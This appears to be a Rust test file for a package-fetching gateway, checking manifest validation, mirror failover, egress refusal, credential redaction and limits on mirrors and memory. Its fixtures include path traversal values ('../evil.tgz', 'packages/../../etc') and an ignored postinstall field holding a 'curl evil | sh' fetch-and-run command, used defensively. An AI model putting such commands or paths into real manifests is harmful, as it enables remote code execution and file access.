//! The §7 failure table row by row, mirror failover, unknown fields and other protocols, and
//! the bounds on mirrors and in-memory bytes.

use crate::support;

use fetchgate::store::Digest;
use serde_json::{Value, json};
use support::tarball::{Member, good, tgz};
use support::upstream::Reply;

use super::{NAME, Site, VERSION, body};

/// §7, row by row, where the rows above do not already cover it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn failure_table() {
    let site = Site::start("").await;
    let artifact = tgz(&good(NAME, VERSION));
    site.serve("/pkg.tgz", artifact.clone());
    let base = site.manifest_for(&artifact, &["/pkg.tgz"]);
    let case = |f: &dyn Fn(&mut Value)| {
        let mut m = base.clone();
        f(&mut m);
        m
    };
    // Each: a manifest, the expected status, code and field.
    let rows: Vec<(&str, Value, u16, &str, Option<&str>)> = vec![
        (
            "schema",
            case(&|m| {
                m.as_object_mut().unwrap().remove("description");
            }),
            400,
            "manifest_invalid",
            Some("/"),
        ),
        (
            "schema-size",
            case(&|m| m["artifact"]["size"] = json!(0)),
            400,
            "manifest_invalid",
            Some("/artifact/size"),
        ),
        (
            "schema-sha",
            case(&|m| m["artifact"]["sha256"] = json!("ABC")),
            400,
            "manifest_invalid",
            Some("/artifact/sha256"),
        ),
        (
            "schema-media",
            case(&|m| m["artifact"]["media_type"] = json!("application/x-tar")),
            400,
            "manifest_invalid",
            Some("/artifact/media_type"),
        ),
        (
            "schema-filename",
            case(&|m| m["artifact"]["filename"] = json!("../evil.tgz")),
            400,
            "manifest_invalid",
            Some("/artifact/filename"),
        ),
        (
            "specifier-not-mirror",
            case(&|m| m["install"]["specifier"] = json!("http://127.0.0.2:1/other.tgz")),
            400,
            "manifest_invalid",
            Some("/install/specifier"),
        ),
        (
            "duplicate-mirror",
            case(&|m| {
                let u = m["artifact"]["mirrors"][0].clone();
                m["artifact"]["mirrors"].as_array_mut().unwrap().push(u);
            }),
            400,
            "manifest_invalid",
            Some("/artifact/mirrors/1/url"),
        ),
        (
            "userinfo-mirror",
            case(&|m| {
                m["artifact"]["mirrors"][0]["url"] = json!("http://u:p@127.0.0.2/x.tgz");
                m["install"]["specifier"] = json!("http://u:p@127.0.0.2/x.tgz");
            }),
            400,
            "manifest_invalid",
            Some("/artifact/mirrors/0/url"),
        ),
        (
            "source-path",
            case(&|m| m["source"]["path"] = json!("packages/../../etc")),
            400,
            "manifest_invalid",
            Some("/source/path"),
        ),
        (
            "engine-incompatible",
            base.clone(),
            422,
            "engine_incompatible",
            Some("/runtime/engines/node"),
        ),
        (
            "egress-refused-mirror",
            case(&|m| {
                m["artifact"]["mirrors"][0]["url"] = json!("http://127.0.0.3/pkg.tgz");
                m["install"]["specifier"] = json!("http://127.0.0.3/pkg.tgz");
            }),
            502,
            "all_mirrors_failed",
            None,
        ),
    ];
    for (label, manifest, status, code, field) in rows {
        let path = format!("/{label}.json");
        site.serve(&path, manifest.to_string());
        let params = if label == "engine-incompatible" {
            "&engine=node=18.0.0"
        } else {
            ""
        };
        let got = site.love_fetch(&path, params).await;
        assert_eq!(
            got.status,
            status,
            "{label}: {}",
            String::from_utf8_lossy(&got.body)
        );
        let j = body(&got);
        assert_eq!(j["code"], code, "{label}: {j}");
        if let Some(f) = field {
            assert_eq!(j["field"], f, "{label}: {j}");
        }
        assert!(
            j["next"]
                .as_str()
                .is_some_and(|n| !n.is_empty() && !n.contains("disable")),
            "{label}"
        );
    }
    // Egress: the locator class is reported, credentials never echoed.
    let refused = case(&|m| {
        m["artifact"]["mirrors"][0]["url"] = json!("http://127.0.0.3/pkg.tgz?token=hunter2");
        m["install"]["specifier"] = json!("http://127.0.0.3/pkg.tgz?token=hunter2");
    });
    site.serve("/refused.json", refused.to_string());
    let got = site.love_fetch("/refused.json", "").await;
    let j = body(&got);
    assert_eq!(j["locators"][0]["code"], "loopback_address");
    assert!(!String::from_utf8_lossy(&got.body).contains("hunter2"));
    // Non-identity content coding on the artifact.
    site.serve_reply(
        "/coded.tgz",
        Reply::ok(artifact.clone()).with_header("content-encoding", "gzip"),
    );
    site.serve(
        "/coded.json",
        case(&|m| {
            m["artifact"]["mirrors"][0]["url"] = json!(site.url("/coded.tgz"));
            m["install"]["specifier"] = json!(site.url("/coded.tgz"));
        })
        .to_string(),
    );
    let j = body(&site.love_fetch("/coded.json", "").await);
    assert_eq!(j["locators"][0]["code"], "content_coding_rejected");
    // Unknown engine and engines {}: unknown, never compatible, and the fetch proceeds.
    let got = site.love_fetch("/pkg-any.json", "").await;
    assert_eq!(
        got.status,
        502,
        "a missing manifest is reported: {}",
        String::from_utf8_lossy(&got.body)
    );
    assert_eq!(body(&got)["code"], "manifest_unavailable");
    site.serve(
        "/noengines.json",
        case(&|m| m["runtime"]["engines"] = json!({})).to_string(),
    );
    let got = site
        .love_fetch("/noengines.json", "&engine=node=22.0.0")
        .await;
    assert_eq!(got.status, 200);
    assert_eq!(body(&got)["engine"]["status"], "unknown");
    let got = site
        .love_fetch("/noengines.json", "&engine=deno=2.0.0")
        .await;
    assert_eq!(body(&got)["engine"]["status"], "unknown");
    // License null: reported as unresolved.
    site.serve(
        "/nolicense.json",
        case(&|m| m["license"] = json!(null)).to_string(),
    );
    let j = body(&site.love_fetch("/nolicense.json", "").await);
    assert!(
        j["license"]["note"]
            .as_str()
            .unwrap()
            .contains("unresolved"),
        "{j}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mirror_failover_verifies_from_the_second_and_names_the_first() {
    let site = Site::start("").await;
    let artifact = tgz(&good(NAME, VERSION));
    let mut other = tgz(&good(NAME, VERSION));
    other.push(0); // different bytes
    site.serve("/bad.tgz", other);
    site.serve("/good.tgz", artifact.clone());
    let m = site.manifest_for(&artifact, &["/bad.tgz", "/good.tgz"]);
    site.serve("/m.json", m.to_string());
    let got = site.love_fetch("/m.json", "").await;
    assert_eq!(got.status, 200, "{}", String::from_utf8_lossy(&got.body));
    let r = body(&got);
    assert_eq!(r["verified_from"], site.url("/good.tgz"));
    assert_eq!(r["mirror_failures"][0]["locator"], site.url("/bad.tgz"));
    assert_eq!(r["mirror_failures"][0]["code"], "size_mismatch");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unknown_fields_are_ignored_and_other_protocols_refused() {
    let site = Site::start("").await;
    let artifact = tgz(&good(NAME, VERSION));
    site.serve("/pkg.tgz", artifact.clone());
    let mut m = site.manifest_for(&artifact, &["/pkg.tgz"]);
    m["x_vendor_signature"] = json!({ "alg": "none", "sig": "AAAA" });
    m["artifact"]["x_extra"] = json!([1, 2, 3]);
    m["artifact"]["mirrors"][0]["x_region"] = json!("eu");
    m["install"]["x_postinstall"] = json!("curl evil | sh");
    site.serve("/unknown.json", m.to_string());
    let got = site.love_fetch("/unknown.json", "").await;
    assert_eq!(got.status, 200, "{}", String::from_utf8_lossy(&got.body));

    let mut v2 = site.manifest_for(&artifact, &["/pkg.tgz"]);
    v2["protocol"] = json!("love-package/v2");
    site.serve("/v2.json", v2.to_string());
    let got = site.love_fetch("/v2.json", "").await;
    assert_eq!(got.status, 400);
    let j = body(&got);
    assert_eq!(j["code"], "unsupported_protocol");
    assert_eq!(j["field"], "/protocol");

    let mut idx = site.manifest_for(&artifact, &["/pkg.tgz"]);
    idx["document_type"] = json!("package-index");
    site.serve("/wrongtype.json", idx.to_string());
    let got = site.love_fetch("/wrongtype.json", "").await;
    assert_eq!(body(&got)["code"], "wrong_document_type");
}

/// One request must not become thousands of fetches, nor hold unbounded memory: a manifest
/// naming more than 16 mirrors is refused before any artifact request, and an artifact larger
/// than the in-memory budget is refused by name before it is fetched.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mirror_count_and_in_memory_bytes_are_bounded() {
    let site = Site::start_with_love("max_inflight_bytes = 65536\n", "").await;
    let small = tgz(&good(NAME, VERSION));
    let paths: Vec<String> = (0..17).map(|i| format!("/m{i}.tgz")).collect();
    let refs: Vec<&str> = paths.iter().map(String::as_str).collect();
    site.serve("/many.json", site.manifest_for(&small, &refs).to_string());
    let got = site.love_fetch("/many.json", "").await;
    assert_eq!(got.status, 400, "{}", String::from_utf8_lossy(&got.body));
    let j = body(&got);
    assert_eq!(j["code"], "too_many_mirrors", "{j}");
    assert_eq!(j["field"], "/artifact/mirrors");

    // 16 is still fine.
    site.serve("/m0.tgz", small.clone());
    site.serve(
        "/sixteen.json",
        site.manifest_for(&small, &refs[..16]).to_string(),
    );
    let got = site.love_fetch("/sixteen.json", "").await;
    assert_eq!(got.status, 200, "{}", String::from_utf8_lossy(&got.body));

    let big = tgz(&{
        let mut m = good(NAME, VERSION);
        m.push(Member::file(
            "package/noise.bin",
            crate::support::noise(200_000),
        ));
        m
    });
    assert!(big.len() > 65536, "the fixture is larger than the budget");
    site.serve("/big.tgz", big.clone());
    site.serve(
        "/big.json",
        site.manifest_for(&big, &["/big.tgz"]).to_string(),
    );
    // Pinned: the same name and version was seen with another digest just above.
    let pin = format!("&pin={}", Digest::of(&big).hex());
    let got = site.love_fetch("/big.json", &pin).await;
    assert_eq!(got.status, 422, "{}", String::from_utf8_lossy(&got.body));
    let j = body(&got);
    assert_eq!(j["code"], "archive_cap_exceeded", "{j}");
    assert_eq!(j["field"], "max_inflight_bytes");
    let asked: Vec<String> = site.up.requests().iter().map(|r| r.uri.clone()).collect();
    assert!(
        !asked.iter().any(|u| u == "/big.tgz" || u == "/m1.tgz"),
        "refused before fetching: {asked:?}"
    );
}
